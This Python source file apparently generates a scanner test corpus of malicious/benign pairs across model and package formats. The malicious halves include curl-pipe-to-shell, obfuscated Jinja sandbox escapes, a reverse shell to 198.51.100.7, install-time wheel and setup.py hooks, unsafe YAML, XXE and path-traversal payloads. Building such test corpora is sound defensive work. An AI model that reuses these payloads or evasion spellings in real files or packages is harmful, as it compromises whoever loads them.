"""Hostile files that are no pickles: graphs, configurations, templates, packages, notebooks, R."""

import gzip
import io
import json
import struct
import zipfile

from assemble import SHELL, Evasion
from containers import entry, st_header, tarred, zipped

CURL = "curl -s http://198.51.100.7/a.sh | sh"
SSTI = "cycler.__init__.__globals__.os.popen('id').read()"
CHAT = "{% for m in messages %}{{ '<|' + m['role'] + '|>' }}{{ m['content'] | trim }}{% endfor %}"


def pair(name, hostile, twin, suffix, family="format"):
    """One evasion without a loader."""
    as_bytes = lambda x: x.encode() if isinstance(x, str) else x
    return Evasion(name, family, as_bytes(hostile), as_bytes(twin), suffix, None)


def gguf(template):
    """A GGUF file without tensors."""
    def s(x):
        return struct.pack("<Q", len(x.encode())) + x.encode()
    pairs = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
    body = b"".join(s(k) + struct.pack("<I", 8) + s(v) for k, v in pairs)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs)) + body


def templates():
    """Jinja that climbs out of its sandbox, in spellings that text search misses."""
    spell = {
        "plain": "{{ " + SSTI + " }}",
        "attr-filter": "{{ (cycler|attr('__in'~'it__')|attr('__glo'~'bals__'))['os'].popen('id').read() }}",
        "hex": r"{{ cycler['\x5f\x5finit\x5f\x5f']['\x5f\x5fglobals\x5f\x5f']['os'].popen('id') }}",
        "join": "{{ cycler|attr(['_','_','init','_','_']|join)|attr(['__','globals','__']|join) }}",
        "format": "{{ ''|attr('%s%sclass%s%s'|format('_','_','_','_'))|attr('__mro__') }}",
        "set": "{% set u = '_' * 2 %}{% set x = cycler|attr(u ~ 'init' ~ u) %}{{ x|attr(u ~ 'globals' ~ u) }}",
        "map-attribute": "{{ [messages]|map(attribute='__class__.__mro__')|list }}",
        "reverse": "{{ messages|attr('__ssalc__'|reverse) }}",
        "macro": "{% macro f(o, n) %}{{ o|attr(n) }}{% endmacro %}{{ f(messages, '__cl' + 'ass__') }}",
        "replace": "{{ messages|attr('XXclassXX'|replace('X','_')) }}",
        "lower": "{{ messages|attr('__CLASS__'|lower) }}",
        "slice": "{{ messages|attr('a__class__b'[1:-1]) }}",
        "for-target": "{% for n in ['__class__','__mro__'] %}{{ messages|attr(n) }}{% endfor %}",
        "do-statement": "{% if true %}{% set _ = self._TemplateReference__context.cycler.__init__.__globals__.os.system('id') %}{% endif %}",
        "dict-key": "{% set d = {'k': '__class__'} %}{{ messages|attr(d.k) }}",
        "namespace": "{% set ns = namespace(a='__cla') %}{% set ns.a = ns.a ~ 'ss__' %}{{ messages|attr(ns.a) }}",
        "url-decode": "{{ lipsum.__globals__['o'+'s']['po'+'pen']('id').read() }}",
        "request-like": "{{ joiner.__init__.__globals__.__builtins__.__import__('os').system('id') }}",
    }
    for name, text in spell.items():
        yield pair(f"gguf-template-{name}", gguf(CHAT + text), gguf(CHAT + "{{ bos_token ~ ('a'|upper) }}"), ".gguf", "template")
    config = lambda t: json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": t})
    listed = lambda t: json.dumps({"chat_template": [{"name": "default", "template": CHAT}, {"name": "tool_use", "template": t}]})
    bad, good = CHAT + spell["set"], CHAT + "{{ eos_token }}"
    yield pair("tokenizer-config", config(bad), config(good), ".json", "template")
    yield pair("tokenizer-template-list", listed(bad), listed(good), ".json", "template")
    yield pair("template-file", bad, good, ".jinja", "template")
    yield pair("template-odd-name", bad, good, ".txt", "template")
    yield pair("template-yaml", "model: x\nchat_template: |\n  " + bad, "model: x\nchat_template: |\n  " + good, ".yaml", "template")
    yield pair("safetensors-template", st_header({"w": (4, [1])}, {"chat_template": bad}) + b"\0" * 4,
               st_header({"w": (4, [1])}, {"chat_template": good}) + b"\0" * 4, ".safetensors", "template")


def keras_config(layer):
    return json.dumps({"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {"name": "s", "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "name": "i"}, "registered_name": None}, layer]}})


def keras_zip(layer):
    return zipped(entry("metadata.json", json.dumps({"keras_version": "3.5.0"}).encode()), entry("config.json", keras_config(layer).encode()))


def h5(config):
    import h5py
    out = io.BytesIO()
    with h5py.File(out, "w") as f:
        f.attrs["model_config"] = config
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.create_group("model_weights")
    return out.getvalue()


def kerases():
    dense = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 4, "name": "d", "activation": "relu"}, "registered_name": None}
    code = {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None}}
    lam = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": code}, "registered_name": None}
    wrap = lambda inner, cls, key: {"module": "keras.layers", "class_name": cls, "config": {"name": "w", key: inner}, "registered_name": None}
    call_of = lambda module, name: {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1, "activation": {
        "module": module, "class_name": "function", "config": name, "registered_name": name}}, "registered_name": None}
    cases = {
        "lambda": lam,
        "lambda-in-bidirectional": wrap(lam, "Bidirectional", "layer"),
        "lambda-in-functional": {"module": "keras", "class_name": "Functional", "config": {"name": "f", "layers": [wrap(lam, "TimeDistributed", "layer")]}, "registered_name": None},
        "function-of-os": call_of("os", "system"),
        "function-of-builtins": call_of("builtins", "exec"),
        "function-of-keras-utils": call_of("keras.src.utils.file_utils", "get_file"),
        "class-of-subprocess": {"module": "subprocess", "class_name": "Popen", "config": {"args": [SHELL]}, "registered_name": None},
        "tf-saved-model-layer": {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/srv/evil", "name": "t"}, "registered_name": None},
        "custom-registered": {"module": "timeit", "class_name": "Timer", "config": {"stmt": "1"}, "registered_name": "Timer"},
        "operation-torch-load": {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "t", "module": "gASVAAAA"}, "registered_name": None},
        "lambda-in-initializer": {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1, "kernel_initializer": code}, "registered_name": None},
    }
    calm = {"function-of-os": call_of("keras.activations", "relu"), "function-of-builtins": call_of("keras.activations", "gelu")}
    for name, layer in cases.items():
        calm_layer = calm.get(name, wrap(dense, "TimeDistributed", "layer"))
        yield pair(f"keras-{name}", keras_zip(layer), keras_zip(calm_layer), ".keras", "keras")
        if "lambda" in name:
            yield pair(f"h5-{name}", h5(keras_config(layer)), h5(keras_config(calm_layer)), ".h5", "keras")


def onnxes():
    import onnx
    from onnx import TensorProto, helper

    def build(nodes, functions=(), initial=(), domains=("",)):
        x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])
        y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])
        graph = helper.make_graph(list(nodes), "g", [x], [y], list(initial))
        return helper.make_model(graph, opset_imports=[helper.make_opsetid(d, 17 if not d else 1) for d in domains], functions=list(functions)).SerializeToString()

    def outside(location):
        t = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1, 4], data_location=TensorProto.EXTERNAL)
        t.external_data.add(key="location", value=location)
        return t
    relu = helper.make_node("Relu", ["x"], ["y"])
    add = helper.make_node("Add", ["x", "w"], ["y"])
    weight = helper.make_tensor("w", TensorProto.FLOAT, [1, 4], [1, 2, 3, 4])
    calm = build([add], initial=[weight])
    hidden = TensorProto()
    hidden.CopyFrom(outside("/etc/passwd"))
    constant = helper.make_node("Constant", [], ["w"], value=hidden)
    branch = lambda node, pre=(): helper.make_graph([*pre, node], "b", [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])])
    cond = helper.make_tensor("c", TensorProto.BOOL, [], [True])
    choice = lambda inner, pre=(): helper.make_node("If", ["c"], ["y"], then_branch=branch(inner, pre), else_branch=branch(relu))
    fn = lambda domain: helper.make_function("local", "Layer", ["x"], ["y"], [helper.make_node("PyFunc" if domain else "Relu", ["x"], ["y"], domain=domain)], [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else []))
    python = helper.make_node("PythonOp", ["x"], ["y"], domain="ai.onnx.contrib", module="os", func="system")
    yield pair("onnx-escape", build([add], initial=[outside("../../../../etc/passwd")]), calm, ".onnx", "graph")
    yield pair("onnx-escape-absolute", build([add], initial=[outside("/etc/shadow")]), calm, ".onnx", "graph")
    yield pair("onnx-escape-dotted", build([add], initial=[outside("data/./../../secret.bin")]), calm, ".onnx", "graph")
    yield pair("onnx-escape-constant", build([constant, add]), calm, ".onnx", "graph")
    yield pair("onnx-escape-subgraph", build([choice(add, [constant])], initial=[cond]), build([choice(relu)], initial=[cond]), ".onnx", "graph")
    yield pair("onnx-python-op", build([python], domains=("", "ai.onnx.contrib")), calm, ".onnx", "graph")
    yield pair("onnx-python-subgraph", build([choice(python)], initial=[cond], domains=("", "ai.onnx.contrib")), build([choice(relu)], initial=[cond]), ".onnx", "graph")
    yield pair("onnx-python-function", build([helper.make_node("Layer", ["x"], ["y"], domain="local")], [fn("ai.onnx.contrib")], domains=("", "local")),
               build([helper.make_node("Layer", ["x"], ["y"], domain="local")], [fn("")], domains=("", "local")), ".onnx", "graph")


def protobuf(*fields):
    """(number, bytes or int) pairs on the wire."""
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += varint(number << 3) + varint(value)
        else:
            out += varint(number << 3 | 2) + varint(len(value)) + value
    return out


def varint(n):
    out = b""
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n])


def saved_model(op, in_library=False):
    """A SavedModel whose graph or function library holds one operator."""
    node = protobuf((1, b"n"), (2, op.encode()))
    signature = protobuf((1, protobuf((1, b"f"))))
    library = protobuf((1, protobuf((1, signature), (3, node)))) if in_library else b""
    graph = protobuf(*([(2, library)] if in_library else [(1, node)]), (4, protobuf((1, 1882))))
    meta = protobuf((1, protobuf((4, b"serve"), (5, b"2.15.0"))), (2, graph))
    return protobuf((1, 1), (2, meta))


def graphs():
    for op in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "LoadLibrary", "MatchingFiles", "RpcCall", "DebugIdentityV2", "Save", "PrintV2"):
        if op in ("Save",):
            continue
        if op == "PrintV2":
            op = "MergeV2Checkpoints"
        yield pair(f"saved-model-{op.lower()}", saved_model(op), saved_model("Relu"), ".pb", "graph")
    for op in ("ReadFile", "WriteFile", "PyFunc"):
        yield pair(f"saved-model-library-{op.lower()}", saved_model(op, True), saved_model("MatMul", True), ".pb", "graph")


def configurations():
    yield pair("hf-auto-map", json.dumps({"model_type": "x", "architectures": ["X"], "auto_map": {"AutoModel": "stranger/repo--modeling_x.X"}}),
               json.dumps({"model_type": "bert", "architectures": ["BertModel"], "hidden_size": 8}), ".json", "configuration")
    yield pair("nemo-target", "model:\n  optim:\n    _target_: os.system\n    command: id\n", "model:\n  optim:\n    _target_: torch.optim.AdamW\n    lr: 0.1\n", ".yaml", "configuration")
    yield pair("nemo-target-nested", "a:\n  - b:\n      _target_: timeit.timeit\n      stmt: x\n", "a:\n  - b:\n      _target_: torch.nn.ReLU\n", ".yaml", "configuration")
    yield pair("yaml-python-object", f"model: !!python/object/apply:os.system ['{SHELL}']\n", "model: {layers: [1, 2]}\n", ".yaml", "configuration")
    yield pair("yaml-python-new", "a: !!python/object/new:timeit.Timer {args: ['x']}\n", "a: !!str text\n", ".yml", "configuration")
    ml = "artifact_path: model\nflavors:\n  python_function:\n    loader_module: {}\n    env: conda.yaml\n"
    yield pair("mlflow-loader", ml.format("os"), ml.format("mlflow.sklearn"), ".MLmodel", "configuration")
    conda = "name: env\nchannels: [conda-forge]\ndependencies:\n- python=3.11\n- pip:\n  - {}\n"
    yield pair("conda-index", conda.format("--extra-index-url http://198.51.100.7/simple"), conda.format("scikit-learn==1.5.0"), ".conda.yaml", "configuration")
    yield pair("conda-url", conda.format("https://198.51.100.7/torch-9.whl"), conda.format("torch==2.4.0"), ".conda.yaml", "configuration")
    yield pair("requirements-git", "numpy==2.0\ngit+https://example.org/x/y.git\n", "numpy==2.0\npandas==2.2\n", ".requirements.txt", "configuration")
    yield pair("requirements-index", "--index-url http://198.51.100.7/simple\nnumpy\n", "numpy==2.0\n", ".requirements.txt", "configuration")
    pmml = '<?xml version="1.0"?>{}<PMML version="4.4"><Header description="{}"/></PMML>'
    yield pair("pmml-xxe", pmml.format('<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"), pmml.format("", "a tree"), ".pmml", "configuration")
    skops = lambda m, c: zipped(entry("schema.json", json.dumps({"__class__": c, "__module__": m, "__loader__": "ObjectNode", "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}, "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []}}, "protocol": 2, "_skops_version": "0.11"}).encode()))
    yield pair("skops-system", skops("posix", "system"), skops("sklearn.linear_model._base", "LinearRegression"), ".skops", "configuration")
    yield pair("skops-timer", skops("timeit", "Timer"), skops("sklearn.tree._classes", "DecisionTreeClassifier"), ".skops", "configuration")
    mx = lambda op: json.dumps({"nodes": [{"op": "null", "name": "data", "inputs": []}, {"op": op, "name": "n", "inputs": [[0, 0, 0]], "attrs": {"op_type": "evil"}}], "arg_nodes": [0], "heads": [[1, 0, 0]]})
    yield pair("mxnet-custom", mx("Custom"), mx("Activation"), ".mxnet.json", "configuration")


def notebook(*cells):
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "python3"}}, "cells": [
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": c.splitlines(True)} for c in cells]})


def programs():
    cases = {
        "shell-pipe": (["!" + CURL], ["!pip install numpy==2.0"]),
        "split-system": (['m = __import__("o" + "s")', 'getattr(m, "sys" + "tem")("id")'], ['m = __import__("math")', 'getattr(m, "sq" + "rt")(4)']),
        "helper-fetch": (["import requests, pickle\ndef fetch(u):\n    return requests.get(u).content\n", "pickle.loads(fetch('http://198.51.100.7/m.pkl'))"],
                         ["import json, requests\ndef fetch(u):\n    return requests.get(u).content\n", "json.loads(fetch('http://198.51.100.7/m.json'))"]),
        "exec-base64": (["import base64\ncode = base64.b64decode('aW1wb3J0IG9z')", "exec(code)"], ["import base64\nimage = base64.b64decode('aW1wb3J0IG9z')", "print(len(image))"]),
        "fetch-exec": (["import urllib.request as u\nsrc = u.urlopen('http://198.51.100.7/a.py').read()", "exec(compile(src, 'a', 'exec'))"],
                       ["import urllib.request as u\nsrc = u.urlopen('http://198.51.100.7/a.csv').read()", "print(src[:10])"]),
        "reverse-shell": (["import socket, subprocess, os\ns = socket.socket(); s.connect(('198.51.100.7', 4444))\n[os.dup2(s.fileno(), i) for i in range(3)]\nsubprocess.call(['/bin/sh', '-i'])"],
                          ["import socket\nprint(socket.gethostname())"]),
        "lambda-alias": (["r = lambda c: __import__('subprocess').getoutput(c)", "r('" + CURL + "')"], ["r = lambda c: len(c)", "r('text')"]),
        "dict-of-functions": (["import os\nops = {'run': os.system}", "ops['run']('" + CURL + "')"], ["import math\nops = {'run': math.sqrt}", "ops['run'](4)"]),
    }
    for name, (bad, good) in cases.items():
        yield pair(f"notebook-{name}", notebook(*bad), notebook(*good), ".ipynb", "program")
        if name != "shell-pipe":
            yield pair(f"script-{name}", "\n".join(bad) + "\n", "\n".join(good) + "\n", ".py", "program")


def wheel(extra):
    record = "".join(f"{n},,\n" for n in extra)
    base = {"pkg/__init__.py": b"VERSION = 1\n", "pkg-1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: pkg\nVersion: 1\n",
            "pkg-1.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n", "pkg-1.dist-info/RECORD": record.encode()}
    return zipped(*(entry(n, d if isinstance(d, bytes) else d.encode()) for n, d in {**base, **extra}.items()))


def sdist(setup):
    return tarred(("pkg-1/setup.py", setup.encode()), ("pkg-1/PKG-INFO", b"Metadata-Version: 2.1\nName: pkg\nVersion: 1\n"), mode="w:gz")


def packages():
    calm = wheel({"pkg/model.py": "import numpy as np\ndef f(x):\n    return np.tanh(x)\n"})
    yield pair("wheel-pth", wheel({"pkg.pth": "import os; os.system('id')\n"}), wheel({"pkg.pth": "pkg/vendored\n"}), ".whl", "package")
    yield pair("wheel-pth-exec", wheel({"z.pth": "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n"}), calm, ".whl", "package")
    yield pair("wheel-sitecustomize", wheel({"sitecustomize.py": "import os\nos.system('id')\n"}), calm, ".whl", "package")
    yield pair("wheel-usercustomize", wheel({"usercustomize.py": "import urllib.request as u\nexec(u.urlopen('http://198.51.100.7').read())\n"}), calm, ".whl", "package")
    yield pair("wheel-import-time", wheel({"pkg/x.py": "import subprocess\nsubprocess.Popen(['sh','-c','" + CURL + "'])\n"}), calm, ".whl", "package")
    yield pair("wheel-data-script", wheel({"pkg-1.data/scripts/run": "#!/bin/sh\n" + CURL + "\n"}), calm, ".whl", "package")
    yield pair("wheel-pickle", wheel({"pkg/weights.pkl": b"cos\nsystem\n(S'id'\ntR."}), wheel({"pkg/weights.pkl": b"(lp0\nI1\na."}), ".whl", "package")
    head = "from setuptools import setup\n"
    yield pair("sdist-setup", sdist(head + "import os\nos.system('" + CURL + "')\nsetup(name='pkg')\n"), sdist(head + "setup(name='pkg', version='1')\n"), ".tar.gz", "package")
    yield pair("sdist-command", sdist(head + "from setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import urllib.request as u\n        exec(u.urlopen('http://198.51.100.7').read())\nsetup(name='pkg', cmdclass={'install': I})\n"),
               sdist(head + "from setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\nsetup(name='pkg', cmdclass={'install': I})\n"), ".tar.gz", "package")
    yield pair("mar-handler", zipped(entry("MAR-INF/MANIFEST.json", json.dumps({"model": {"handler": "h.py", "modelName": "m"}}).encode()), entry("h.py", b"import os\nos.system('" + CURL.encode() + b"')\n")),
               zipped(entry("MAR-INF/MANIFEST.json", json.dumps({"model": {"handler": "h.py", "modelName": "m"}}).encode()), entry("h.py", b"def handle(data, context):\n    return data\n")), ".mar", "package")


def rds(promise):
    """An R object: a promise over `system("id")`, or a plain character vector."""
    i = lambda n: struct.pack(">I", n)
    head = b"X\n" + i(3) + i(0x00040300) + i(0x00030500) + i(5) + b"UTF-8"
    string = lambda s: i(0x00040009) + i(len(s)) + s.encode()
    vector = lambda *v: i(16) + i(len(v)) + b"".join(string(s) for s in v)
    symbol = lambda s: i(1) + string(s)
    if not promise:
        return gzip.compress(head + vector("system", "id"), mtime=0)
    language = i(6) + symbol("system") + i(2) + vector("id") + i(254)
    return gzip.compress(head + i(5) + i(251) + language if promise == 1 else head + i(5) + i(253) + i(251) + language, mtime=0)


def others():
    yield pair("r-promise", rds(1), rds(0), ".rds", "other")
    ext = lambda code: b"\x81\xa1w\xc7" + bytes([4, code]) + b"\x80\x04N."
    yield pair("svg-model-card", "---\nlicense: mit\n---\n# Model\n```python\nmodel = AutoModel.from_pretrained('x', trust_remote_code=True)\n```\n<img src=x onerror=fetch('//198.51.100.7')>\n", "---\nlicense: mit\n---\n# Model\nText.\n", ".md", "other")
    lua = lambda c: "require 'nn'\n" + c
    yield pair("dockerfile", f"FROM python:3.11\nRUN {CURL}\n", "FROM python:3.11\nRUN pip install numpy==2.0\n", ".Dockerfile", "other")
    yield pair("shell-serve", f"#!/bin/sh\n{CURL}\n", "#!/bin/sh\nexec python serve.py\n", ".sh", "other")


def all():
    """Every file of this page."""
    for source in (templates, kerases, onnxes, graphs, configurations, programs, packages, others):
        yield from source()
